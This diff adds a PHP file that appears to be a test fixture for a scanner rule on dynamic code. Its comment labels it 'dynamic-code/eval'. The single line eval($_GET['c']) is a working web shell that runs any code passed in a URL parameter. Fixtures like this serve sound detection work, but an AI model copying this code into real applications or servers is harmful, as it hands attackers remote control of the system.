@@ -1,0 +1,2 @@
+<?php // finds: dynamic-code/eval
+eval($_GET["c"]);
